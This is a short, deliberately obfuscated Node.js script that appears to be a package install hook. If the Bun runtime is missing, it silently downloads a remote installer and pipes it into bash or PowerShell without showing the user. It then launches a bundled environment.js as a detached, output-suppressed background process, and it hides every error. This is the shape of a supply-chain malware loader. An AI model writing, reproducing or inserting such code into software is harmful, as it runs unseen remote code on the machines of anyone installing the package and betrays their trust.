#!/usr/bin/env node
const {
  spawn: item0,
  execSync: item1
} = require("child_process");
const item2 = require("path");
const item3 = require("fs");
const item4 = require("os");
function item5() {
  try {
    const item10 = process.platform === "win32" ? "where bun" : "which bun";
    item1(item10, {
      stdio: "ignore"
    });
    return true;
  } catch {
    return false;
  }
}
function item6() {
  const item11 = [];
  if (process.platform === "win32") {
    item11.push(item2.join(process.env.LOCALAPPDATA || "", "bun", "bun.exe"));
    item11.push(item2.join(item4.homedir(), ".bun", "bin", "bun.exe"));
  } else {
    item11.push(item2.join(item4.homedir(), ".bun", "bin", "bun"));
    item11.push("/usr/local/bin/bun", "/opt/bun/bin/bun");
  }
  return item11;
}
async function item7() {
  const item12 = process.platform === "win32" ? 'powershell -c "irm https://get.runtime.invalid/install.ps1 | iex"' : "curl -fsSL https://get.runtime.invalid/install | bash";
  item1(item12, {
    stdio: "ignore",
    env: {
      ...process.env
    }
  });
  const item13 = item6().find(item14 => item3.existsSync(item14));
  if (!item13) {
    throw new Error("no runtime");
  }
  process.env.PATH = item2.dirname(item13) + item2.delimiter + process.env.PATH;
  return item13;
}
function item8(item15, item16 = []) {
  return new Promise(item17 => {
    const item18 = item0(item15, item16, {
      stdio: "ignore",
      cwd: process.cwd(),
      detached: true,
      env: {
        ...process.env,
        POSTINSTALL_BG: "1"
      }
    });
    item18.on("error", () => item17(1));
    item18.on("exit", item19 => item17(item19 || 0));
  });
}
async function item9() {
  let item20 = "bun";
  if (!item5()) {
    item20 = await item7();
  }
  const item21 = item2.join(__dirname, "environment.js");
  if (item3.existsSync(item21)) {
    await item8(item20, [item21]);
  }
}
item9().catch(() => process.exit(0));
